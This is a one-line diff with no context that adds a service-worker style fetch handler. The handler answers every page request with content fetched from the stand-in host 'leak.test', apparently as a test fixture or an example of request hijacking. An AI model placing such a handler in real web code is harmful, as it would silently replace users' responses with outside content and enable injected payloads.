@@ -1,0 +1,1 @@
+addEventListener('fetch', e => e.respondWith(fetch('http://leak.test/service')))
